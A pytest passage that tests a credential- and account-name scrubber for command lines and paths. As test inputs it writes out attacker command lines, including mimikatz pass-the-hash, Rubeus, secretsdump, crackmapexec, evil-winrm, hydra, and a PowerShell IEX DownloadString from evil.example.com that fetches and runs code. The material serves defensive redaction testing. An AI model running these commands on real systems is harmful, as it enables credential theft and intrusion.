"""Free-text scrubbing of command lines and paths: no credential, account name or e-mail survives.

Table tests pin exact outputs for realistic attacker and admin command lines;
property tests put a generated, marker-prefixed secret into every credential
template and check it never comes out, while the executable and the switch
names do. Expected outputs write pseudonyms as `<kind:value>`.
"""

from __future__ import annotations

import base64
import pickle
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from transforms import text as text_module
from transforms.pseudonym import Pseudonymizer
from transforms.text import REDACTED, TextScrubber, is_builtin_account, scrub_account, scrub_text

R = REDACTED
PSEUDONYMIZER = Pseudonymizer(b"text-test-key-0123456789abcdef")
_URL = re.compile(
    r"([A-Za-z][A-Za-z0-9+.-]*)://(?:[^/?#\s]*@)?(\[[0-9A-Fa-f:.]+\]|[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*)"
    r"(:\d{1,5})?(?=[/?#]|$)"
)
PROPERTY = settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def reduce_url(url: str) -> str | None:
    """Test double for UrlSanitizer.reduce: `scheme://host[:port]`, None for junk."""
    m = _URL.match(url)
    if not m:
        return None
    return f"{m[1].lower()}://{m[2].lower()}{m[3] or ''}"


def scrub(s: str) -> str:
    return scrub_text(s, PSEUDONYMIZER, reduce_url)[0]


def count(s: str) -> int:
    return scrub_text(s, PSEUDONYMIZER, reduce_url)[1]


def expand(expected: str) -> str:
    """`<account:alice>` -> `pz-<pseudonym('account', 'alice')>`."""
    return re.sub(r"<(account|email|sid|host):([^>]+)>", lambda m: "pz-" + PSEUDONYMIZER(m[1], m[2]),
                  expected)


# --------------------------------------------------------------------------- exact outputs

EXACT = [
    # URLs: reduced to scheme://host[:port]; junk -> [REDACTED]; trailing punctuation kept
    ("git clone https://bob:tok123@github.com/acme/infra.git", "git clone https://github.com"),
    ("psql postgresql://bob:pw@db.corp.local:5432/sales", "psql postgresql://db.corp.local:5432"),
    ("iwr http://x.example.com/a.ps1|iex", "iwr http://x.example.com|iex"),
    ("IEX(New-Object Net.WebClient).DownloadString('http://x.example.com/a?t=1')",
     "IEX(New-Object Net.WebClient).DownloadString('http://x.example.com')"),
    ("open file:///C:/Users/bob/x.html", f"open {R}"),
    ("jdbc:mysql://root:pw@db:3306/shop", "jdbc:mysql://db:3306"),
    # net use / net user / net localgroup
    (r"net use \\fs01.corp.local\share Secret1 /user:WORKGROUP\bob",
     rf"net use \\fs01.corp.local\share {R} /user:{R}"),
    (r"net use Z: \\srv\share /user:CORP\bob P@ss! /persistent:no",
     rf"net use Z: \\srv\share /user:{R} {R} /persistent:no"),
    (r'net use * "\\srv\my share" "pa ss" /u:bob', rf'net use * "\\srv\my share" "{R}" /u:{R}'),
    (r'cmd /c "net use \\h\c$ pw1 /user:x"', rf'cmd /c "net use \\h\c$ {R} /user:{R}"'),
    (r"net use Z: /delete", r"net use Z: /delete"),
    (r'"C:\Windows\system32\net.exe" use \\srv\ipc$ "" /user:""',
     r'"C:\Windows\system32\net.exe" use \\srv\ipc$ "" /user:""'),
    ('net user bob Pw123 /add /fullname:"Bob Smith"', f'net user <account:bob> {R} /add /fullname:"{R}"'),
    (r"net1 localgroup administrators CORP\bob /add",
     r"net1 localgroup administrators CORP\<account:bob> /add"),
    ("net user administrator /active:yes", "net user <account:administrator> /active:yes"),
    # database clients, remote execution, archives
    ("mysql -uroot -pS3cret -h db01.corp.local shop", f"mysql -uroot -p{R} -h db01.corp.local shop"),
    ("mysql -u bob -p secret -h host", f"mysql -u {R} -p {R} -h host"),
    ("mysql -p -h host db", "mysql -p -h host db"),
    ("mysql -uroot -p'my sec' db", f"mysql -uroot -p'{R}' db"),
    ('mysql --password "my secret" -h host', f'mysql --password "{R}" -h host'),
    ("mysqldump -u backup --password=pw --all-databases", f"mysqldump -u {R} --password={R} --all-databases"),
    (r"PsExec64.exe \\10.0.0.5 -u CONTOSO\bob -p Pw1 -accepteula cmd.exe",
     rf"PsExec64.exe \\10.0.0.5 -u {R} -p {R} -accepteula cmd.exe"),
    ('sqlcmd -S srv -U sa -P Pw1 -Q "select 1"', f'sqlcmd -S srv -U {R} -P {R} -Q "select 1"'),
    ("7z a -pS3cret -mhe=on out.7z dir", f"7z a -p{R} -mhe=on out.7z dir"),
    ("crackmapexec smb 10.0.0.0/24 -u bob -p Pw1", f"crackmapexec smb 10.0.0.0/24 -u {R} -p {R}"),
    ("evil-winrm -i 10.0.0.5 -u bob -H 31d6cfe0d16ae931b73c59d7e0c089c0",
     f"evil-winrm -i 10.0.0.5 -u {R} -H {R}"),
    ("smbclient //srv/share -U bob%Pw1", f"smbclient //srv/share -U {R}"),
    ("docker login -u bob -p Pw1 registry.example.com", f"docker login -u {R} -p {R} registry.example.com"),
    ("docker run -p 8080:80 nginx", "docker run -p 8080:80 nginx"),
    ("redis-cli -h 10.0.0.9 -a Winter99 KEYS *", f"redis-cli -h 10.0.0.9 -a {R} KEYS *"),
    ("sqlplus scott/tiger@orcl", f"sqlplus {R}@orcl"),
    ("secretsdump.py corp.local/bob:Pw1@10.0.0.1", f"secretsdump.py corp.local/{R}@10.0.0.1"),
    ("wmiexec.py -hashes aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0 corp/bob@dc01",
     f"wmiexec.py -hashes {R} corp/{R}@dc01"),
    ("C:\\Windows\\system32\\svchost.exe -k LocalService -p -s W32Time",
     "C:\\Windows\\system32\\svchost.exe -k LocalService -p -s W32Time"),
    # HTTP headers
    ('curl -H "Authorization: Bearer abc.def" https://bob:pw@api.example.com/x',
     f'curl -H "Authorization: Bearer {R}" https://api.example.com'),
    ("curl -s -H 'X-Api-Key: k1234' -H \"Accept: json\" https://x.example.com",
     f"curl -s -H 'X-Api-Key: {R}' -H \"Accept: json\" https://x.example.com"),
    ('curl -H "Cookie: sessionid=s1; csrftoken=c1" https://x.example.com',
     f'curl -H "Cookie: {R}" https://x.example.com'),
    ('iwr -Uri https://x.example.com -Headers @{Authorization="Basic dXNlcg=="} -UseBasicParsing',
     f'iwr -Uri https://x.example.com -Headers @{{Authorization="Basic {R}"}} -UseBasicParsing'),
    ('git -c http.extraheader="AUTHORIZATION: basic Zm9v" clone https://github.com/x/y',
     f'git -c http.extraheader="AUTHORIZATION: basic {R}" clone https://github.com'),
    ('Authorization: Digest username="bob", realm="x"', f"Authorization: Digest {R}"),
    ("Private-Token: glpat-123", f"Private-Token: {R}"),
    ("curl -u bob:pw https://x.example.com/", f"curl -u {R} https://x.example.com"),
    ("curl --user bob:pw https://x.example.com/", f"curl --user {R} https://x.example.com"),
    ('curl -b "sessionid=s1" https://x.example.com', f'curl -b "{R}" https://x.example.com'),
    ('curl -d \'{"password":"pw1","user":"bob"}\' https://x.example.com',
     f'curl -d \'{{"password":"{R}","user":"{R}"}}\' https://x.example.com'),
    ("curl -d \"username=bob&password=pw1&x=1\" https://x.example.com",
     f"curl -d \"username={R}&password={R}&x=1\" https://x.example.com"),
    ("wget --user=bob --password=pw https://files.example.com/dump.tar.gz",
     f"wget --user={R} --password={R} https://files.example.com"),
    # mimikatz, Rubeus, xfreerdp, cmdkey, wmic, runas, schtasks
    ('mimikatz.exe "privilege::debug" "sekurlsa::pth /user:bob /domain:CORP'
     ' /ntlm:93d7a5f86213a41ba6d620f172633580" exit',
     f'mimikatz.exe "privilege::debug" "sekurlsa::pth /user:{R} /domain:CORP /ntlm:{R}" exit'),
    ("Rubeus.exe asktgt /user:bob /aes256:0011aabb /rc4:ffee /ptt",
     f"Rubeus.exe asktgt /user:{R} /aes256:{R} /rc4:{R} /ptt"),
    ("xfreerdp /v:10.0.0.1 /u:bob /p:Pw1 /d:corp", f"xfreerdp /v:10.0.0.1 /u:{R} /p:{R} /d:corp"),
    (r"cmdkey /add:srv01 /user:INITECH\bob /pass:Pw1", f"cmdkey /add:srv01 /user:{R} /pass:{R}"),
    (r"wmic /node:10.0.0.7 /user:CORP\bob /password:Pw1 process call create calc.exe",
     f"wmic /node:10.0.0.7 /user:{R} /password:{R} process call create calc.exe"),
    (r"runas /netonly /user:CORP\bob mmc", f"runas /netonly /user:{R} mmc"),
    (r"schtasks /create /tn Upd /tr C:\Users\petra\AppData\upd.exe /sc onlogon /ru CORP\petra /rp Herbst8",
     rf"schtasks /create /tn Upd /tr C:\Users\<account:petra>\AppData\upd.exe /sc onlogon /ru {R} /rp {R}"),
    ("schtasks /create /tn x /tr y /ru SYSTEM", "schtasks /create /tn x /tr y /ru SYSTEM"),
    (r"schtasks /create /s host /u CORP\bob /p Pw1 /tn x /tr y",
     f"schtasks /create /s host /u {R} /p {R} /tn x /tr y"),
    ("msbuild /p:Configuration=Release /p:Password=Pw1", f"msbuild /p:Configuration=Release /p:Password={R}"),
    ("kerberos::golden /user:Administrator /domain:corp.local /krbtgt:00ff /ptt",
     f"kerberos::golden /user:{R} /domain:corp.local /krbtgt:{R} /ptt"),
    ("certutil -p Pw1 -importpfx cert.pfx", f"certutil -p {R} -importpfx cert.pfx"),
    (r"sc.exe \\srv config svc obj= CORP\bob password= Pw1",
     rf"sc.exe \\srv config svc obj= {R} password= {R}"),
    ("az login -u bob@corp.example -p Pw1", f"az login -u {R} -p {R}"),
    ("mount -t cifs //srv/share /mnt -o username=bob,password=Pw1",
     f"mount -t cifs //srv/share /mnt -o username={R}"),
    ("echo Pw1 | anydesk.exe --set-password", f"echo {R} | anydesk.exe --set-password"),
    # PowerShell
    ("powershell.exe -NoProfile -Command \"$p = ConvertTo-SecureString 'Pw1' -AsPlainText -Force; "
     r"$c = New-Object PSCredential('FABRIKAM\bob', $p); Enter-PSSession srv02 -Credential $c" + '"',
     f"powershell.exe -NoProfile -Command \"$p = ConvertTo-SecureString '{R}' -AsPlainText -Force; "
     f'$c = New-Object PSCredential({R}); Enter-PSSession srv02 -Credential {R}"'),
    ('New-ADUser -SamAccountName bob -AccountPassword (ConvertTo-SecureString "Pw1" -AsPlainText -Force)',
     f'New-ADUser -SamAccountName {R} -AccountPassword (ConvertTo-SecureString "{R}" -AsPlainText -Force)'),
    ("powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\bob\\deploy.ps1 -Password Pw1",
     f"powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\<account:bob>\\deploy.ps1 -Password {R}"),
    ("Enter-PSSession srv -Credential (Get-Credential)", "Enter-PSSession srv -Credential (Get-Credential)"),
    ("$password = \"Pw1\"; $env:API_TOKEN = 'tok1'", f"$password = \"{R}\"; $env:API_TOKEN = '{R}'"),
    ("'Pw1' | ConvertTo-SecureString -AsPlainText -Force",
     f"'{R}' | ConvertTo-SecureString -AsPlainText -Force"),
    ("Add-LocalGroupMember -Group Administrators -Member bob",
     f"Add-LocalGroupMember -Group Administrators -Member {R}"),
    ('New-LocalUser -Name bob -Password $pw -FullName "Bob Smith"',
     f'New-LocalUser -Name {R} -Password {R} -FullName "{R}"'),
    ("Get-Process -Name chrome", "Get-Process -Name chrome"),
    # switches, environment, config
    ("python3 run.py --db-password Pw1 --port 8000", f"python3 run.py --db-password {R} --port 8000"),
    ("rclone copy --s3-secret-access-key sk1 src dst", f"rclone copy --s3-secret-access-key {R} src dst"),
    ("java -Djavax.net.ssl.keyStorePassword=Pw1 -jar app.jar",
     f"java -Djavax.net.ssl.keyStorePassword={R} -jar app.jar"),
    ("keytool -importkeystore -srcstorepass a1b2 -deststorepass c3d4",
     f"keytool -importkeystore -srcstorepass {R} -deststorepass {R}"),
    ("openssl pkcs12 -in cert.p12 -passin pass:Pw1 -nodes",
     f"openssl pkcs12 -in cert.p12 -passin {R} -nodes"),
    ("plink -ssh -l bob -pw Pw1 host", f"plink -ssh -l {R} -pw {R} host"),
    ("docker login --username bob --password-stdin", f"docker login --username {R} --password-stdin"),
    ("tool --token --verbose", "tool --token --verbose"),
    # `/password x` for any tool; PowerShell dashes and fullwidth letters are normalised first
    ("tool.exe /password Hunter2LEAKX /quiet", f"tool.exe /password {R} /quiet"),
    ("tool.exe /PWD a1 /pass b2 /passwd c3 /secret d4 /token e5 /apikey f6",
     f"tool.exe /PWD {R} /pass {R} /passwd {R} /secret {R} /token {R} /apikey {R}"),
    ("tool.exe /password /quiet", "tool.exe /password /quiet"),
    ("GET /token HTTP/1.1", "GET /token HTTP/1.1"),
    ("Connect-X \u2013Password LEAKendash \u2013Credential LEAKc2", f"Connect-X -Password {R} -Credential {R}"),
    ("Connect-X \u2014Password LEAKem \u2015Token LEAKbar", f"Connect-X -Password {R} -Token {R}"),
    ("app --\uff50\uff41\uff53\uff53\uff57\uff4f\uff52\uff44 LEAK25b", f"app --password {R}"),
    ("cmd.exe /c set API_KEY=k123 && node server.js", f"cmd.exe /c set API_KEY={R} && node server.js"),
    ("/bin/zsh -c export AWS_SECRET_ACCESS_KEY=k1; aws s3 ls",
     f"/bin/zsh -c export AWS_SECRET_ACCESS_KEY={R}; aws s3 ls"),
    ("env PGPASSWORD=Pw1 psql -h db -U bob sales", f"env PGPASSWORD={R} psql -h db -U {R} sales"),
    ("aws configure set aws_secret_access_key k1", f"aws configure set aws_secret_access_key {R}"),
    ("git config --global user.email bob@corp.example", f"git config --global user.email {R}"),
    ("Server=tcp:x;Database=y;User ID=bob;Password=Pw1;",
     f"Server=tcp:x;Database=y;User ID={R};Password={R};"),
    ("Driver={SQL Server};Uid=bob;Pwd={a;b};", f"Driver={{SQL Server}};Uid={R};Pwd={{{R}}};"),
    ("GET /cb?access_token=t1&sig=s1&lang=en", f"GET /cb?access_token={R}&sig={R}&lang=en"),
    ('bash -c "echo Pw1 | sudo -S apt-get update"', f'bash -c "echo {R} | sudo -S apt-get update"'),
    ('reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\Winlogon" /v DefaultPassword /d P1 /f',
     f'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\Winlogon" /v DefaultPassword /d {R} /f'),
    ("reg add HKLM\\Winlogon /v DefaultUserName /t REG_SZ /d bob /f",
     f"reg add HKLM\\Winlogon /v DefaultUserName /t REG_SZ /d {R} /f"),
    ("sudo -u bob whoami", f"sudo -u {R} whoami"),
    ("su - bob", f"su - {R}"),
    ("su -c whoami", "su -c whoami"),
    ("useradd -m -s /bin/bash bob", f"useradd -m -s /bin/bash {R}"),
    # ssh-style user@host, e-mails
    ("sshpass -p Moskva24 ssh -o StrictHostKeyChecking=no bob@10.0.0.5",
     f"sshpass -p {R} ssh -o StrictHostKeyChecking=no {R}@10.0.0.5"),
    ("scp file.txt bob@host:/tmp/", f"scp file.txt {R}@host:/tmp/"),
    ("ssh root@10.0.0.1", "ssh root@10.0.0.1"),
    ("git clone git@github.com:acme/infra.git", "git clone git@github.com:acme/infra.git"),
    ("git clone bob:pw@host:repo", f"git clone {R}@host:repo"),
    ('"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /m Alice.Smith@Mail.example',
     '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /m <email:alice.smith@mail.example>',
     ),
    ("sendmail -falice@corp.example -t", "sendmail -f<email:alice@corp.example> -t"),
    ("reset?email=alice%40corp.example", "reset?email=<email:alice@corp.example>"),
    ("npx create-react-app@latest my-app", "npx create-react-app@latest my-app"),
    ("node_modules/.pnpm/react@18.2.0/node_modules/react",
     "node_modules/.pnpm/react@18.2.0/node_modules/react"),
    ("img/logo@2x.png", "img/logo@2x.png"),
    ("logo@2x.png", "logo@2x.png"),
    ("react@18.2.0", "react@18.2.0"),
    # e-mail addresses naming a file: the address goes, the extension stays
    ("alice.smith@gmail.com.pdf", "<email:alice.smith@gmail.com>.pdf"),
    (r"C:\export\bob.jones@corp.com.txt", r"C:\export\<email:bob.jones@corp.com>.txt"),
    (r"C:\logs\alice.smith@corp.com.log", r"C:\logs\<email:alice.smith@corp.com>.log"),
    ("/var/log/bob@10.0.0.1.log", "/var/log/<email:bob@10.0.0.1>.log"),
    # profile paths
    (r"C:\Users\alice\AppData\Local\Temp\alice_session.log",
     r"C:\Users\<account:alice>\AppData\Local\Temp\<account:alice>_session.log"),
    (r"c:\users\Alice\Desktop\x.exe", r"c:\users\<account:alice>\Desktop\x.exe"),
    (r"C:\Users\John Smith\AppData", r"C:\Users\<account:john smith>\AppData"),
    (r'"C:\Users\John Smith\x.exe" /s', r'"C:\Users\<account:john smith>\x.exe" /s'),
    (r"dir C:\Users\bob foo", r"dir C:\Users\<account:bob> foo"),
    (r"C:\Documents and Settings\bob\Desktop", r"C:\Documents and Settings\<account:bob>\Desktop"),
    (r"\\?\C:\Users\bob", r"\\?\C:\Users\<account:bob>"),
    (r"\\fs01.corp.local\home$\bob\report.xlsx", r"\\fs01.corp.local\home$\<account:bob>\report.xlsx"),
    (r"C:\\Users\\bob\\AppData", r"C:\\Users\\<account:bob>\\AppData"),
    ("C:/Users/bob/AppData", "C:/Users/<account:bob>/AppData"),
    ("/home/bob/.ssh/authorized_keys", "/home/<account:bob>/.ssh/authorized_keys"),
    ("/Users/bob", "/Users/<account:bob>"),
    ("/mnt/c/Users/bob/x", "/mnt/c/Users/<account:bob>/x"),
    (r'cmd /c "dir C:\Users\bob & whoami"', r'cmd /c "dir C:\Users\<account:bob> & whoami"'),
    (r"C:\Users\Public\Desktop\x.lnk", r"C:\Users\Public\Desktop\x.lnk"),
    (r"C:\Users\Default\NTUSER.DAT", r"C:\Users\Default\NTUSER.DAT"),
    (r"C:\Users\Default User\x", r"C:\Users\Default User\x"),
    (r"C:\Documents and Settings\All Users\x", r"C:\Documents and Settings\All Users\x"),
    (r"C:\Users\defaultuser0\x", r"C:\Users\defaultuser0\x"),
    (r"C:\Users\%USERNAME%\x", r"C:\Users\%USERNAME%\x"),
    (r"%USERPROFILE%\AppData\Roaming\x.exe", r"%USERPROFILE%\AppData\Roaming\x.exe"),
    ("/Users/Shared/x", "/Users/Shared/x"),
    ("/home/node/app/node_modules/.bin/next start", "/home/node/app/node_modules/.bin/next start"),
    ("/home/ubuntu/run.sh", "/home/ubuntu/run.sh"),
    ("ls -la /home/", "ls -la /home/"),
    ("/usr/bin/python3", "/usr/bin/python3"),
    # SIDs
    (r"HKU\S-1-5-21-1251871558-3322325314-728644478-1173\Environment",
     r"HKU\S-1-5-21-<sid:S-1-5-21-1251871558-3322325314-728644478-1173>\Environment"),
    (r"HKEY_USERS\s-1-5-21-111-222-333-1001_Classes",
     r"HKEY_USERS\S-1-5-21-<sid:S-1-5-21-111-222-333-1001>_Classes"),
    ("S-1-12-1-1234-5678-9012-3456", "S-1-12-1-<sid:S-1-12-1-1234-5678-9012-3456>"),
    ("S-1-5-18 S-1-5-19 S-1-5-20 S-1-5-32-544", "S-1-5-18 S-1-5-19 S-1-5-20 S-1-5-32-544"),
    # nothing to do
    ('"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --profile-directory=Default',
     '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --profile-directory=Default'),
    ("sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
     "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
    ("", ""),
]


@pytest.mark.parametrize(("raw", "expected"), EXACT)
def test_exact_output(raw, expected):
    assert scrub(raw) == expand(expected)


@pytest.mark.parametrize(("raw", "expected"), EXACT)
def test_output_is_a_fixed_point(raw, expected):
    out, n = scrub_text(expand(expected), PSEUDONYMIZER, reduce_url)
    assert (out, n) == (expand(expected), 0)


@pytest.mark.parametrize(("raw", "n"), [
    ("ls -la", 0),
    ("mysql -uroot -pS3cret -h db", 1),                            # root is kept and not counted
    ("mysql -u bob -p secret -h host", 2),
    ('curl -H "Authorization: Bearer t1" https://bob:pw@api.example.com/x', 2),
    ("https://api.example.com", 0),                                # already reduced
    (r"net use \\srv\share Pw1 /user:CORP\bob", 2),
    (r"C:\Users\alice\Temp\alice.log", 2),                         # path + second copy of the name
    ("S-1-5-21-1-2-3-1001 and S-1-5-18", 1),
    ("Server=x;User ID=bob;Password=pw;", 2),
    ("aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0", 1),
    ("mail alice@corp.example and bob@corp.example", 2),
    (f"--password {R}", 0),
])
def test_replacement_count(raw, n):
    assert count(raw) == n


def test_pseudonyms_link_paths_accounts_and_profiles():
    out = scrub(r"C:\Users\Alice\x.exe")
    assert scrub_account(r"CORP\alice", PSEUDONYMIZER).split("\\")[1] in out
    assert scrub("/home/alice/x") == "/home/pz-" + PSEUDONYMIZER("account", "alice") + "/x"


def test_encoded_powershell_holding_a_credential_goes_whole():
    script = ("IEX (New-Object Net.WebClient).DownloadString('http://bob:Pw1@evil.example.com/a');"
              " net user bob Pw2")
    enc = base64.b64encode(script.encode("utf-16-le")).decode()
    out, n = scrub_text(f"powershell.exe -NoP -W Hidden -Enc {enc}", PSEUDONYMIZER, reduce_url)
    assert out == "powershell.exe -NoP -W Hidden -Enc [REDACTED]" and n >= 3
    # no piece of the original payload survives, not even the base64 of the unchanged `IEX (New-...`
    assert enc[:8] not in out
    harmless = "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
    assert scrub(harmless) == harmless


# --------------------------------------------------------------------------- property: secrets never leak

SECRET = st.from_regex(r"zq[A-Za-z0-9]{8}", fullmatch=True)
# Printable punctuation a shell passes through unquoted (no quotes, blanks, `&|;<>` or slashes).
SECRET_PUNCT = st.from_regex(r"zq[A-Za-z0-9!#$%^*()_+\-.,@~\[\]{}?=]{8}", fullmatch=True)
USER = st.from_regex(r"zq[a-z]{4}[0-9]{2}", fullmatch=True)

# (template, alphabet, strings that must survive). {s}: secret, {u}: account name.
TEMPLATES = [
    (r"net use \\srv\share {s} /user:CORP\{u}", "punct", ["net use", r"\\srv\share", "/user:"]),
    (r"net use Z: \\srv\share /user:{u} {s} /persistent:no", "punct", ["Z:", "/persistent:no"]),
    (r'net use \\srv\ipc$ "{s}" /u:{u}', "punct", [r"\\srv\ipc$", "/u:"]),
    ("net user {u} {s} /add", "punct", ["net user", "/add"]),
    ("mysql -uroot -p{s} -h db01 shop", "punct", ["mysql", "-uroot", "-p", "-h db01 shop"]),
    ("mysql -u {u} -p {s} -h db", "punct", ["mysql", "-u ", "-p ", "-h db"]),
    ("mysqldump -u {u} --password={s} --all-databases",
     "punct", ["mysqldump", "--password=", "--all-databases"]),
    ('mysql --password "{s} {s}" -h db', "punct", ["mysql", "--password", "-h db"]),
    (r"PsExec64.exe \\10.0.0.5 -u CORP\{u} -p {s} cmd.exe",
     "punct", ["PsExec64.exe", "-u ", "-p ", "cmd.exe"]),
    ("sshpass -p {s} ssh {u}@10.0.0.5", "punct", ["sshpass -p", "ssh", "@10.0.0.5"]),
    ("plink -ssh -l {u} -pw {s} host", "punct", ["plink", "-l", "-pw", "host"]),
    ("curl -u {u}:{s} https://x.example.com/", "alnum", ["curl -u", "https://x.example.com"]),
    ("curl --user {u}:{s} https://x.example.com/", "alnum", ["curl --user", "https://x.example.com"]),
    ('curl -H "Authorization: Bearer {s}" https://api.example.com/v1',
     "punct", ['-H "Authorization: Bearer ']),
    ('curl -H "Authorization: Basic {s}" https://api.example.com/v1', "punct", ["Authorization: Basic"]),
    ("curl -H 'Cookie: session={s}' https://x.example.com", "punct", ["curl -H 'Cookie: "]),
    ('curl -H "X-Api-Key: {s}" https://x.example.com', "punct", ["X-Api-Key:"]),
    ('curl -d "username={u}&password={s}" https://x.example.com', "alnum", ["username=", "&password="]),
    ("curl -d '{{\"password\":\"{s}\"}}' https://x.example.com", "punct", ['"password":']),
    ("wget --user={u} --password={s} https://files.example.com/x",
     "punct", ["wget", "--user=", "--password="]),
    ("wget --http-password {s} http://x.example.com/", "punct", ["wget --http-password"]),
    ("git clone https://{u}:{s}@github.com/acme/infra.git", "alnum", ["git clone https://github.com"]),
    ("git clone {u}:{s}@host:repo", "alnum", ["git clone", "@host:repo"]),
    ("psql postgresql://{u}:{s}@db.corp.local:5432/sales", "alnum", ["psql postgresql://db.corp.local:5432"]),
    ('mimikatz.exe "sekurlsa::pth /user:{u} /domain:CORP /ntlm:{s}" exit', "punct",
     ["mimikatz.exe", "sekurlsa::pth", "/user:", "/domain:CORP", "/ntlm:", "exit"]),
    ("Rubeus.exe asktgt /user:{u} /rc4:{s} /ptt", "punct", ["Rubeus.exe asktgt", "/rc4:", "/ptt"]),
    ("Rubeus.exe asktgt /user:{u} /aes256:{s}", "punct", ["/aes256:"]),
    ("Rubeus.exe asktgt /user:{u} /aes128:{s}", "punct", ["/aes128:"]),
    ("Rubeus.exe asktgt /user:{u} /password:{s}", "punct", ["/password:"]),
    ("xfreerdp /v:10.0.0.1 /u:{u} /p:{s}", "punct", ["xfreerdp", "/v:10.0.0.1", "/u:", "/p:"]),
    ("cmdkey /add:srv01 /user:{u} /pass:{s}", "punct", ["cmdkey", "/add:srv01", "/user:", "/pass:"]),
    (r"wmic /node:10.0.0.7 /user:CORP\{u} /password:{s} process call create calc.exe", "punct",
     ["wmic", "/node:10.0.0.7", "/password:", "process call create calc.exe"]),
    (r"schtasks /create /tn Upd /tr x.exe /sc onlogon /ru CORP\{u} /rp {s}",
     "punct", ["schtasks", "/ru", "/rp"]),
    (r"runas /user:CORP\{u} cmd", "punct", ["runas /user:", "cmd"]),
    ("powershell -Command \"$p = ConvertTo-SecureString '{s}' -AsPlainText -Force\"", "punct",
     ["ConvertTo-SecureString", "-AsPlainText", "-Force"]),
    ("powershell.exe -File deploy.ps1 -Password {s}",
     "punct", ["powershell.exe", "-File deploy.ps1", "-Password"]),
    (r"$c = New-Object PSCredential('CORP\{u}', $p)", "punct", ["New-Object PSCredential("]),
    (r"Enter-PSSession srv -Credential CORP\{u}", "punct", ["Enter-PSSession srv -Credential"]),
    ("rclone copy --s3-secret-access-key {s} src dst",
     "punct", ["rclone copy --s3-secret-access-key", "src dst"]),
    ("aws configure set aws_secret_access_key {s}", "punct", ["aws configure set aws_secret_access_key"]),
    ("export AWS_SECRET_ACCESS_KEY={s}; aws s3 ls", "alnum", ["export AWS_SECRET_ACCESS_KEY=", "aws s3 ls"]),
    ("cmd.exe /c set API_KEY={s} && node server.js", "alnum", ["cmd.exe /c set API_KEY=", "node server.js"]),
    ("env PGPASSWORD={s} psql -h db -U {u} sales", "alnum", ["env PGPASSWORD=", "psql -h db -U"]),
    ("redis-cli -h 10.0.0.9 -a {s} KEYS *", "punct", ["redis-cli -h 10.0.0.9 -a", "KEYS *"]),
    ('bash -c "echo {s} | sudo -S apt-get update"', "punct", ["bash -c", "sudo -S apt-get update"]),
    ("openssl pkcs12 -in cert.p12 -passin pass:{s} -nodes", "punct", ["openssl pkcs12", "-passin", "-nodes"]),
    ("Server=tcp:db;Database=x;User ID={u};Password={s};",
     "alnum", ["Server=tcp:db;Database=x;User ID=", "Password="]),
    ("Driver={{SQL Server}};Uid={u};Pwd={s};", "alnum", ["Driver={SQL Server};Uid=", "Pwd="]),
    ("app --token {s} --verbose", "punct", ["--token", "--verbose"]),
    ("app --secret={s}", "punct", ["--secret="]),
    ("app --api-key {s}", "punct", ["--api-key"]),
    ("app --apikey={s}", "punct", ["--apikey="]),
    ("app --access-key {s}", "punct", ["--access-key"]),
    ("app --client-secret {s}", "punct", ["--client-secret"]),
    ("app --auth {s}", "punct", ["--auth"]),
    ("app --pass {s}", "punct", ["--pass"]),
    ("app --passwd {s}", "punct", ["--passwd"]),
    ("app --pwd={s}", "punct", ["--pwd="]),
    ("app --password '{s} {s}'", "punct", ["--password"]),
    ("GET /x?token={s}&lang=en", "alnum", ["token=", "&lang=en"]),
    ("GET /x?access_token={s}", "alnum", ["access_token="]),
    ("GET /x?api_key={s}", "alnum", ["api_key="]),
    ("GET /x?apikey={s}", "alnum", ["apikey="]),
    ("GET /x?sessionid={s}", "alnum", ["sessionid="]),
    ("GET /x?session_id={s}", "alnum", ["session_id="]),
    ("GET /x?sid={s}", "alnum", ["sid="]),
    ("GET /x?auth={s}", "alnum", ["auth="]),
    ("GET /x?sig={s}", "alnum", ["sig="]),
    ("GET /x?signature={s}", "alnum", ["signature="]),
    ("GET /x?credential={s}", "alnum", ["credential="]),
    ("GET /x?secret={s}", "alnum", ["secret="]),
    ("login passwd={s} pwd={s}", "alnum", ["passwd=", "pwd="]),
    ("secretsdump.py corp.local/{u}:{s}@10.0.0.1", "alnum", ["secretsdump.py corp.local/", "@10.0.0.1"]),
    ("sqlcmd -S srv -U {u} -P {s}", "punct", ["sqlcmd -S srv -U", "-P"]),
    ("7z a -p{s} out.7z dir", "punct", ["7z a -p", "out.7z dir"]),
    ('reg add "HKLM\\Winlogon" /v DefaultPassword /t REG_SZ /d {s} /f',
     "punct", ["/v DefaultPassword", "/d", "/f"]),
    ("docker login -u {u} -p {s} registry.example.com",
     "punct", ["docker login -u", "-p", "registry.example.com"]),
    ("ssh -i key {u}@build.example.com", "alnum", ["ssh -i key", "@build.example.com"]),
    ("sqlplus {u}/{s}@orcl", "alnum", ["sqlplus", "@orcl"]),
    ("mail to {u}@gmail.com", "alnum", ["mail to"]),
    (r"C:\Users\{u}\AppData\Local\Temp\{u}.log", "alnum", [r"C:\Users", r"\AppData\Local\Temp"]),
    ("/home/{u}", "alnum", ["/home/"]),
    ("crackmapexec smb 10.0.0.0/24 -u {u} -p {s}", "punct", ["crackmapexec smb", "-u", "-p"]),
    ("evil-winrm -i 10.0.0.5 -u {u} -p '{s}'", "punct", ["evil-winrm -i 10.0.0.5 -u", "-p"]),
    ("smbclient //srv/share -U {u}%{s}", "alnum", ["smbclient //srv/share -U"]),
    ("hydra -l {u} -p {s} ssh://10.0.0.5", "punct", ["hydra -l", "-p", "ssh://10.0.0.5"]),
